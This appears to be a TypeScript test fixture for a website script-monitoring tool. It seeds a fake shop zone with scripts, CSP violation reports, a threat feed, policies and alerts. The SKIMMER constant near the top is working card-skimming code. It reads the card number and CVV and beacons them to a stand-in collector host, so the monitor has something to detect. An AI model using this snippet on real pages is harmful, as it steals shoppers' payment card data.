// A monitored zone: scripts of every kind with real scores, connections, cookies, frames, code, and a threat feed.
import { join } from 'node:path'
import { DatabaseSync } from '@photostructure/sqlite'
import type { Api } from '../browsers/api.ts'
import { until } from '../browsers/site.ts'
import type { Target } from '../program.ts'
import { serveFiles, serveNames, type ServedFile } from './outside-world.ts'

export const MONITORED_ZONE = 'monitored.example'
const WWW = `https://www.${MONITORED_ZONE}`
/** Makes fetching from this machine possible, and slow sites no reason to wait. */
const FETCHES = ['--script-fetches', '2', '--fetch-networks', '127.0.0.0/8', '--fetch-ports', 'any']

/** Settings with which the program reaches what this file serves. @param mailPort Of an SMTP server on this machine. */
export async function monitoringFlags(mailPort: number): Promise<readonly string[]> {
  const names = `127.0.0.1:${await serveNames(MONITORED_ZONE)}`
  const mail = ['--smtp-url', `smtp://127.0.0.1:${mailPort}`, '--smtp-from', 'alerts@example.com']
  return [...FETCHES, '--resolver', names, ...mail]
}

const SKIMMER = `document.querySelector('#card').addEventListener('input', () => {
  const card = document.querySelector('input[name=cardnumber]').value + '|' + document.querySelector('input[name=cvv]').value
  navigator.sendBeacon('https://collect.stats-cdn.example/g', btoa(card))
})`
const CLICKS = `addEventListener('click', (event) => fetch('https://stats.example.net/p', { method: 'POST',
  body: JSON.stringify({ x: event.clientX, u: location.href, a: navigator.userAgent }) }))`
const APP = '/assets/app.7f3c1.js'
const CONTENTS: Readonly<Record<string, string>> = {
  '/v3/loader.js': SKIMMER,
  [APP]: 'export const add = (a, b) => a + b; console.log(add(1, 2))',
  '/assets/a-very-long-name-of-a-bundle-that-nobody-would-type.02ab9c77d1e0.js':
    'window.vendor = { version: 3 }',
  '/p.js': CLICKS,
}

/** What the script is at its second fetch. */
const LATER_APP = `export const add = (a, b) => a + b
export const tax = (sum) => sum * 1.19
console.log(tax(add(1, 2)))`

/** @param folder Of the program's database. */
export async function addMonitoring(api: Api, target: Target, folder: string): Promise<void> {
  const { id } = await api.post<{ id: string }>('/zones', { name: MONITORED_ZONE })
  await api.call('PUT', `/zones/${id}/page_shield`, { enabled: true })
  const own = `/zonereeve/zones/${id}/page_shield`
  await api.call('PUT', `${own}/sampling`, {
    also_report: ['frames', 'images', 'forms', 'inline', 'eval'],
    whole_paths: ['/checkout'],
  })
  const files = new Map<string, ServedFile>(
    Object.entries(CONTENTS).map(([path, body]) => [path, { type: 'text/javascript', body }]),
  )
  const port = await serveFiles(files)
  const origin = `http://127.0.0.1:${port}`
  await observe(api, own, origin)
  await sendReports(api, own, target)
  await addFeed(api, target)
  await addPolicies(api, id, own, target)
  await until(
    async () => {
      const scripts = await api.get<readonly { fetched_at: string | null }[]>(
        `/zones/${id}/page_shield/scripts?urls=127.0.0.1`,
      )
      return (
        scripts.length === Object.keys(CONTENTS).length && scripts.every((one) => one.fetched_at !== null)
      )
    },
    () => 'the scripts of the monitored zone were not fetched',
  )
  await authorizeSome(api, id)
  files.set(APP, { type: 'text/javascript', body: LATER_APP })
  makeDue(folder, 'page_shield_resources', 'fetch_due_at', `${origin}${APP}`)
  await addEmailAlert(api, own)
  await addWatchedPage({ api, own, folder, files, page: `http://www.${MONITORED_ZONE}:${port}/checkout` })
  const changed = await scriptOf(api, id, APP)
  await until(
    async () => (await api.get<{ history: [] }>(`${own}/scripts/${changed}/contents`)).history.length > 1,
    () => 'the changed script was not fetched',
  )
}

/** Of what the program fetches, one row is due at once: its clock cannot be moved. */
function makeDue(folder: string, table: string, column: string, url: string): void {
  const database = new DatabaseSync(join(folder, 'zonereeve.db'))
  database.exec('PRAGMA busy_timeout = 5000')
  database.prepare(`UPDATE ${table} SET ${column} = '2026-01-01T00:00:00Z' WHERE url = ?`).run(url)
  database.close()
}

const scriptOf = async (api: Api, zoneId: string, path: string): Promise<string> =>
  (await api.get<readonly { id: string }[]>(`/zones/${zoneId}/page_shield/scripts?urls=${path}`))[0]?.id ??
  'none'

/** One whose content changes afterwards, and one that stays valid for a year. */
async function authorizeSome(api: Api, zoneId: string): Promise<void> {
  const root = `/zonereeve/zones/${zoneId}/page_shield/scripts`
  const app = await scriptOf(api, zoneId, APP)
  const body = { owner: 'Web team', justification: 'The shop itself' }
  await api.call('PUT', `${root}/${app}/authorization`, body)
  const vendor = await scriptOf(api, zoneId, '77d1e0.js')
  const end = new Date(Date.now() + 365 * 86_400_000).toISOString()
  await api.call('PUT', `${root}/${vendor}/authorization`, { ...body, expires_at: end })
}

const addEmailAlert = (api: Api, own: string): Promise<unknown> =>
  api.post(`${own}/email_alerts`, {
    recipients: ['security@example.com', 'web-team@example.com'],
    kinds: ['script.reported', 'page.policy_drift', 'page.failed'],
    digest_minutes: 60,
  })

interface WatchedSite {
  readonly api: Api
  readonly own: string
  readonly folder: string
  readonly files: Map<string, ServedFile>
  readonly page: string
}

/** A page that is fetched twice: later it is sent with another header, and with one script more. */
async function addWatchedPage({ api, own, folder, files, page }: WatchedSite): Promise<void> {
  const script =
    '<script src="/assets/app.7f3c1.js" integrity="sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU="></script>'
  const served = (body: string, headers: Readonly<Record<string, string>>): ServedFile => ({
    type: 'text/html',
    body: `<!doctype html><title>Checkout</title>${script}${body}`,
    headers: { 'x-frame-options': 'DENY', 'referrer-policy': 'same-origin', ...headers },
  })
  files.set('/checkout', served('', { 'strict-transport-security': 'max-age=31536000' }))
  const { id } = await api.post<{ id: string }>(`${own}/pages`, { url: page, interval_minutes: 1_440 })
  const states = async () => (await api.get<readonly unknown[]>(`${own}/pages/${id}/history`)).length
  await until(
    async () => (await states()) === 1,
    () => 'the watched page was not checked',
  )
  files.set(
    '/checkout',
    served('<script>window.dataLayer = []</script>', { 'x-frame-options': 'SAMEORIGIN' }),
  )
  makeDue(folder, 'page_shield_pages', 'next_check_at', page)
  await until(
    async () => (await states()) === 2,
    () => 'the watched page was not checked again',
  )
}

/** Three page views make a resource active. */
async function observe(api: Api, own: string, origin: string): Promise<void> {
  const scripts = Object.keys(CONTENTS).map((path) => `${origin}${path}`)
  const views = [
    { page_url: `${WWW}/checkout`, scripts, connections: ['https://collect.stats-cdn.example'] },
    { page_url: `${WWW}/`, scripts: scripts.slice(1), connections: ['https://api.pay.example'] },
    { page_url: `${WWW}/shop/cart`, scripts: scripts.slice(2) },
  ]
  const observations = [...views, ...views, ...views].map((view) => ({
    ...view,
    set_cookie: [
      'session=1; Path=/; Secure; HttpOnly; SameSite=Lax',
      'theme=1; Path=/; Max-Age=31536000; SameSite=None',
    ],
    cookie: '_ga=1; session=1',
  }))
  await api.post(`${own}/observations`, { observations })
  const seldom = {
    page_url: `${WWW}/help`,
    scripts: ['https://beta.widgets.example/chat.js?v=weekly&callback=init'],
    connections: ['wss://live.widgets.example:8443'],
  }
  await api.post(`${own}/observations`, { observations: [seldom] })
}

interface Headers {
  readonly headers: readonly { readonly value: string; readonly policy_id: string | null }[]
}

/** The address that browsers send reports of a page to, without its host. @param policyId null = monitoring's. */
export async function reportPath(
  api: Api,
  own: string,
  page: string,
  policyId: string | null,
): Promise<string> {
  const { headers } = await api.get<Headers>(`${own}/headers?url=${encodeURIComponent(page)}`)
  const found = headers.find(({ policy_id: id }) => id === policyId)
  const [, uri] = /report-uri ([^;\s]+)/.exec(found?.value ?? 'none') ?? [] // no header, no address
  if (uri === undefined) throw new Error(`no address for reports of ${page}`)
  const { pathname, search } = new URL(uri)
  return `${pathname}${search}`
}

/** A report as a browser sends it. @param visitor tells page views apart. */
export async function sendReport(
  { http }: Target,
  path: string,
  report: Readonly<Record<string, string | number>>,
  visitor: string,
): Promise<void> {
  const reply = await fetch(http + path, {
    method: 'POST',
    headers: { 'content-type': 'application/csp-report', 'user-agent': visitor },
    body: JSON.stringify({ 'csp-report': report }),
  })
  if (!reply.ok) throw new Error(`the collector answered ${reply.status}`)
}

const LOADS = [
  { 'effective-directive': 'frame-src', 'blocked-uri': 'https://js.pay.example' },
  { 'effective-directive': 'img-src', 'blocked-uri': 'https://pixel.ads.example' },
  { 'effective-directive': 'form-action', 'blocked-uri': `${WWW}/order` },
  {
    'effective-directive': 'script-src-elem',
    'blocked-uri': 'inline',
    'script-sample': 'window.dataLayer = window.dataLayer || []',
    'line-number': 14,
    'source-file': `${WWW}/checkout`,
  },
  {
    'effective-directive': 'script-src-attr',
    'blocked-uri': 'inline',
    'script-sample': 'pay(this)',
    'line-number': 88,
    'source-file': `${WWW}/checkout`,
  },
  {
    'effective-directive': 'script-src',
    'blocked-uri': 'eval',
    'script-sample': 'return a + b',
    'line-number': 3,
    'source-file': `${WWW}/assets/app.js`,
  },
]

async function sendReports(api: Api, own: string, target: Target): Promise<void> {
  const page = `${WWW}/checkout`
  const path = await reportPath(api, own, page, null)
  for (const visitor of ['a', 'b', 'c'])
    for (const load of LOADS)
      await sendReport(target, path, { 'document-uri': page, disposition: 'report', ...load }, visitor)
  // What the collector drops, and counts.
  await sendReport(
    target,
    path,
    {
      'document-uri': page,
      'effective-directive': 'script-src-elem',
      'blocked-uri': 'chrome-extension://abcdef/inject.js',
    },
    'a',
  )
  await sendReport(
    target,
    path,
    {
      'document-uri': 'https://elsewhere.example/',
      'effective-directive': 'script-src-elem',
      'blocked-uri': 'https://a.example/a.js',
    },
    'a',
  )
}

async function addFeed(api: Api, { http, token }: Target): Promise<void> {
  const feed = await api.post<{ id: string }>('/zonereeve/threat_feeds', {
    name: 'Own list',
    format: 'plain',
    categories: ['Malware'],
  })
  const reply = await fetch(`${http}/client/v4/zonereeve/threat_feeds/${feed.id}/entries`, {
    method: 'PUT',
    headers: { authorization: `Bearer ${token}`, 'content-type': 'text/plain' },
    body: 'stats-cdn.example\n',
  })
  if (!reply.ok) throw new Error(`the entries were refused: ${await reply.text()}`)
  await api.post('/zonereeve/threat_feeds', {
    name: 'URLhaus',
    format: 'urlhaus',
    url: 'https://urlhaus.abuse.example/downloads/csv_recent/',
    interval_minutes: 60,
    enabled: false,
  })
}

/** One logs, with violations; one is off. */
async function addPolicies(api: Api, zoneId: string, own: string, target: Target): Promise<void> {
  const policies = `/zones/${zoneId}/page_shield/policies`
  const page = `${WWW}/checkout`
  const { id } = await api.post<{ id: string }>(policies, {
    description: 'Checkout',
    action: 'log',
    enabled: true,
    expression: 'http.request.uri.path eq "/checkout"',
    value:
      "default-src 'self'; script-src 'self' js.pay.example consent.example.net/cmp; connect-src 'self' api.pay.example",
  })
  await api.post(policies, {
    description: '',
    action: 'allow',
    enabled: false,
    expression: 'http.host eq "www.monitored.example" and not http.request.uri.path contains "/checkout"',
    value: "script-src 'self'",
  })
  const path = await reportPath(api, own, page, id)
  const violations = [
    { 'effective-directive': 'script-src-elem', 'blocked-uri': 'https://static.replay.example/r.js' },
    { 'effective-directive': 'connect-src', 'blocked-uri': 'https://collect.stats-cdn.example/g' },
  ]
  for (const visitor of ['a', 'b', 'c'])
    for (const violation of violations)
      await sendReport(target, path, { 'document-uri': page, disposition: 'report', ...violation }, visitor)
}
